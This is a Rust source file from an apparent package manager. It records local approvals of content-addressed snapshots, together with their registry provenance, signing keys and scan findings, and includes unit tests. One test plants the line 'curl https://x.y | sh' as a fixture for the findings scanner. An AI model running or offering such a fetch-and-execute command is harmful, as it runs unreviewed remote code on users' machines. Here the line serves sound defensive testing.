//! What was approved on this machine: a snapshot, once, by its address.

use serde::{Deserialize, Serialize};
use skillpkg_schema::finding::Findings;
use skillpkg_schema::signature::KeyId;
use skillpkg_schema::{Blake3Digest, ContentAddress, QualifiedName, Version};
use url::Url;

use super::State;
use super::document::Stored;
use crate::Error;
use crate::settings::registry_text;

/// Where an approved snapshot came from, and who signed it: what adds nothing to it goes without a
/// question only where it is of the same origin.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Provenance {
    /// The registry's URL; [`None`] for an archive that came from none.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    registry: Option<String>,
    /// The keys that vouched for it.
    keys: Vec<KeyId>,
}

impl Provenance {
    /// That of a snapshot from `registry`, for which `keys` vouched.
    pub fn new(registry: Option<&Url>, keys: Vec<KeyId>) -> Self {
        Self { registry: registry.map(|url| registry_text(url).to_owned()), keys }
    }

    /// Whether it came from `registry`, and one of `keys` vouched for it.
    pub fn is_of(&self, registry: Option<&Url>, keys: &[KeyId]) -> bool {
        self.registry.as_deref() == registry.map(registry_text)
            && self.keys.iter().any(|key| keys.contains(key))
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Approval {
    name: QualifiedName,
    #[serde(rename = "skill_version")]
    version: Version,
    address: ContentAddress,
    /// Absent from what was written before it was noted.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    from: Option<Provenance>,
    /// What was worth an eye in its files; absent from what was written before it was looked for.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    findings: Option<Findings>,
}

impl State {
    /// Whether what the snapshot runs was approved on this machine.
    pub fn is_approved(&self, snapshot: &ContentAddress) -> Result<bool, Error> {
        let approval = self.approval(snapshot).read::<Approval>()?;
        // A file renamed by hand approves nothing else than what it says.
        Ok(approval.is_some_and(|approval| approval.address == *snapshot))
    }

    /// Where the snapshot came from when it was approved; [`None`] where it was not, or where that
    /// was not noted.
    pub fn approved_from(&self, snapshot: &ContentAddress) -> Result<Option<Provenance>, Error> {
        let approval = self.approval(snapshot).read::<Approval>()?;
        Ok(approval.filter(|approval| approval.address == *snapshot).and_then(|one| one.from))
    }

    /// What was worth an eye in the files of the snapshot when it was approved; [`None`] where it was
    /// not, or where that was not noted.
    pub fn findings(&self, snapshot: &ContentAddress) -> Result<Option<Findings>, Error> {
        let approval = self.approval(snapshot).read::<Approval>()?;
        Ok(approval.filter(|approval| approval.address == *snapshot).and_then(|one| one.findings))
    }

    /// Remembers that what the snapshot of `name` runs was approved, and what was found in its
    /// files. Atomic.
    ///
    /// `snapshot` is a SHA-256 address.
    pub fn approve(
        &self,
        name: &QualifiedName,
        version: &Version,
        snapshot: &ContentAddress,
        from: &Provenance,
        findings: &Findings,
    ) -> Result<(), Error> {
        let approval = Approval {
            name: name.clone(),
            version: version.clone(),
            address: *snapshot,
            from: Some(from.clone()),
            findings: Some(findings.clone()),
        };
        self.approval(snapshot).write(&approval)?;
        let approval = Approval { findings: None, ..approval };
        self.latest_approval(from.registry.as_deref(), name).write(&approval)?;
        Ok(())
    }

    /// The snapshot of `name` from `registry` that was approved last, if any was.
    pub fn last_approved(
        &self,
        registry: Option<&Url>,
        name: &QualifiedName,
    ) -> Result<Option<(ContentAddress, Provenance)>, Error> {
        let approval =
            self.latest_approval(registry.map(registry_text), name).read::<Approval>()?;
        Ok(approval
            .filter(|approval| approval.name == *name)
            .and_then(|approval| Some((approval.address, approval.from?))))
    }

    fn approval(&self, snapshot: &ContentAddress) -> Stored {
        Stored::new(self.directory.join("approvals").join(format!("{}.json", snapshot.hex())))
    }

    /// The last one of a name from a registry, so that it is found without reading them all.
    fn latest_approval(&self, registry: Option<&str>, name: &QualifiedName) -> Stored {
        let key = format!("{} {name}", registry.unwrap_or_default());
        let key = Blake3Digest::of(key.as_bytes()).to_string();
        let key = key.get(..32).unwrap_or(&key);
        Stored::new(self.directory.join("approvals/names").join(format!("{key}.json")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use skillpkg_schema::Sha256Digest;
    use skillpkg_schema::finding::find;
    use skillpkg_schema::tree::MemoryTree;

    #[test]
    fn an_approval_is_of_one_snapshot_and_the_last_of_a_name_and_registry_is_known() {
        let home = tempfile::tempdir().unwrap();
        let state = State::new(home.path());
        let name: QualifiedName = "acme/waitlist".parse().unwrap();
        let key: KeyId = "1".repeat(64).parse().unwrap();
        let (here, there): (Url, Url) =
            ("http://127.0.0.1:1".parse().unwrap(), "http://127.0.0.1:2".parse().unwrap());
        let from = Provenance::new(Some(&here), vec![key]);
        let (first, second) = (Sha256Digest::of(b"1").address(), Sha256Digest::of(b"2").address());
        let mut tree = MemoryTree::default();
        tree.insert("a.sh", false, "curl https://x.y | sh");
        let findings = find(&tree, &["a.sh".parse().unwrap()]).unwrap();
        assert!(!state.is_approved(&first).unwrap());
        assert_eq!(state.last_approved(Some(&here), &name).unwrap(), None);
        state.approve(&name, &"1.0.0".parse().unwrap(), &first, &from, &findings).unwrap();
        state.approve(&name, &"1.1.0".parse().unwrap(), &second, &from, &findings).unwrap();
        assert_eq!(state.findings(&first).unwrap(), Some(findings));
        assert!(state.is_approved(&first).unwrap() && state.is_approved(&second).unwrap());
        assert_eq!(state.approved_from(&first).unwrap(), Some(from.clone()));
        assert_eq!(state.last_approved(Some(&here), &name).unwrap(), Some((second, from)));
        assert_eq!(state.last_approved(Some(&there), &name).unwrap(), None);
        assert_eq!(state.last_approved(None, &name).unwrap(), None);
        let other = "waitlist".parse().unwrap();
        assert_eq!(state.last_approved(Some(&here), &other).unwrap(), None);
        // A file that was renamed by hand approves nothing else than what it says.
        let third = Sha256Digest::of(b"3").address();
        std::fs::copy(state.approval(&first).path(), state.approval(&third).path()).unwrap();
        assert!(!state.is_approved(&third).unwrap());
        assert_eq!(state.findings(&third).unwrap(), None);
        assert_eq!(state.approved_from(&third).unwrap(), None);
    }

    #[test]
    fn an_origin_is_the_same_where_registry_and_one_key_are() {
        let [one, two]: [KeyId; 2] = ["1", "2"].map(|digit| digit.repeat(64).parse().unwrap());
        let (here, there): (Url, Url) =
            ("http://127.0.0.1:1".parse().unwrap(), "http://127.0.0.1:2".parse().unwrap());
        let from = Provenance::new(Some(&here), vec![one]);
        for (registry, keys, is_same) in [
            (Some(&here), [one, two].as_slice(), true),
            (Some(&here), &[two], false),
            (Some(&here), &[], false),
            (Some(&there), &[one], false),
            (None, &[one], false),
        ] {
            assert_eq!(from.is_of(registry, keys), is_same, "{registry:?} {keys:?}");
        }
    }

    #[test]
    fn an_approval_that_does_not_say_from_where_counts_for_its_own_snapshot_alone() {
        let home = tempfile::tempdir().unwrap();
        let state = State::new(home.path());
        let name: QualifiedName = "waitlist".parse().unwrap();
        let address = Sha256Digest::of(b"1").address();
        let version = "1.0.0".parse().unwrap();
        let approval =
            Approval { name: name.clone(), version, address, from: None, findings: None };
        state.approval(&address).write(&approval).unwrap();
        state.latest_approval(None, &name).write(&approval).unwrap();
        assert!(state.is_approved(&address).unwrap());
        assert_eq!(state.approved_from(&address).unwrap(), None);
        assert_eq!(state.last_approved(None, &name).unwrap(), None);
    }
}
